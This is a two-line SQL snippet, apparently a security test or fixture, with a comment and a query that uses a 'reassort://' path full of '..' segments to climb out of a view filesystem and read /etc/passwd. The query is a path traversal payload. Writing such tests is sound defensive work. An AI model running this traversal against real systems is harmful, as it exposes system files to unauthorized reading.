-- Climb out of the views' filesystem with '..'.
SELECT content FROM read_text('reassort://raw.stock_levels/../../../../../../../../etc/passwd')
